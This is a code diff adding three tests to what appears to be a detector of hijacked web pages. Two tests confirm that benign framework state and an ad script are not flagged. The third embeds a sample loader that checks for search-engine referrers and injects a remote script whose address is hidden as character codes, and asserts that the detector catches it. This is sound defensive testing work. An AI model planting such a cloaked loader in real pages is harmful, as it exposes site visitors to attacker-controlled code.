@@ -171,3 +171,31 @@ def test_strongly_hidden_single_link_and_keyword_text():
     a = clean_page(page(body=BODY + hidden), url=URL)
     assert {"hidden_links", "hidden_text"} <= kinds(a)
     assert "hidden_block" not in kinds(a)
+
+
+def test_a_framework_s_state_escaped_as_json_is_data_not_a_loader():
+    # Nuxt/Next/Redux pages hydrate their state from a JSON literal: "/" and "<" escaped by the
+    # serialiser, the story's words (a casino's results) and its "location" field are data
+    para = "\\u003Cp\\u003E澳门金沙第三季度收入回升，公司称客流已恢复至疫情前七成。\\u003C\\u002Fp\\u003E"
+    state = ('<script>window.__NUXT__={"layout":"article","state":{"article":{"title":"澳门金沙收入回升",'
+             '"location":"Macau","body":"' + para * 6 + '","image":"https:\\u002F\\u002Fcdn.newsimg.example'
+             '\\u002Fa\\u002F1.jpg"}}};</script>')
+    a = clean_page(page(head=state), url=URL)
+    assert not a.hijacked, a.findings
+
+
+def test_an_ad_script_spelling_only_its_script_tag_in_char_codes_is_no_obfuscation():
+    script = ('<script>document.write(String.fromCharCode(60,83,67,82,73,80,84));'
+              'document.write(\' src="http://ads.adnet-example.com/show.php?sid=42" type="text/javascript">\');'
+              'document.write(String.fromCharCode(60,47,83,67,82,73,80,84,62));</script>')
+    a = clean_page(page(head=script), url=URL)
+    assert not a.hijacked, a.findings
+
+
+def test_a_loader_spelling_its_address_in_char_codes_is_still_caught():
+    url = "https://tj.yl-778.top/a.js"
+    codes = ",".join(str(ord(c)) for c in url)
+    script = ('<script>if(/baidu|sogou/.test(document.referrer)){var s=document.createElement("script");'
+              f's.src=String.fromCharCode({codes});document.body.appendChild(s)}}</script>')
+    a = clean_page(page(head=script), url=URL)
+    assert a.hijacked and "obfuscated_script" in kinds(a)
